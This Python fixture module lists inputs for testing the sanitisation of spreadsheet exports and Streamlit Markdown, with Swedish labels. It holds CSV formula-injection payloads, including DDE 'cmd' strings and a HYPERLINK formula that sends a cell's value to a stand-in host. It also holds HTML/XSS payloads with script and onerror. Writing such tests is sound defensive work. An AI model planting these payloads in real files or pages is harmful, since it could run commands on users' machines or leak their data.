"""Texts that a file could hold to do something on a page, or where a download is opened."""

from __future__ import annotations

ELSEWHERE = "annan.example"
"""A host that nothing may be fetched from."""

FORMULAS = (
    f'=HYPERLINK("http://{ELSEWHERE}/?a="&A1;"Visa")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@A1",
    "＝1+1",
    "＋1+A1",
    "－1+A1",
    "＠A1",
)
"""What Excel, LibreOffice or a program between could compute."""

LINE_BROKEN = ("\t=1+1", "\r=1+1", "\n=1+1", "\n \t@A1")
"""As above; a file of text could not hold them in a cell, a spreadsheet can."""

NOT_FORMULAS = (
    "",
    "-",
    "+",
    "-1 200,50",
    "+46 8 123",
    "-5",
    "5-3",
    "Lön = avtal",
    "a@b.se",
    "−1 235",
)
"""What must stand as it is: amounts, and what a board calls its parts."""

MARKUP = (
    f"![bild](http://{ELSEWHERE}/a.png)",
    f"[länk](http://{ELSEWHERE}/)",
    f"<http://{ELSEWHERE}/>",
    f"http://{ELSEWHERE}/a",
    f"https://{ELSEWHERE}",
    f"Se www.{ELSEWHERE}",
    f"WWW.{ELSEWHERE}/a",
    f"skriv till a.b@{ELSEWHERE}",
    f"mailto:a@{ELSEWHERE}",
    f'<img src="http://{ELSEWHERE}/b.png" onerror="alert(1)">',
    "<script>alert(1)</script>",
    "<b>fet</b> &lt;i&gt; &amp;",
    "**fet** _kursiv_ ~~struken~~ `kod`",
    "röd :red[text] :blue-background[text] :green-badge[text] :small[text] :red",
    ":material/delete: :material_delete: :streamlit: :smile: :+1: :100:",
    ":help[text] :color[text]{foreground='red'}",
    "$x^2$ och $$y$$ och \\(z\\)",
    "a -> b <- c <-> d -- e >= f <= g ~= h",
    "-> ett",
    "# Rubrik",
    "- punkt",
    "+ punkt",
    "* punkt",
    "1. punkt",
    "2) punkt",
    "> citat",
    "| a | b |",
    "---",
    "===",
    "```kod```",
    "[^1] [x] [x]: http://a",
    "C:\\mapp\\fil_1_.csv",
    "kl 14:05:30 och 3:e",
    "snedstreck \\* \\_ \\[a\\]",
)
"""What Streamlit's Markdown would draw as something else than it is."""
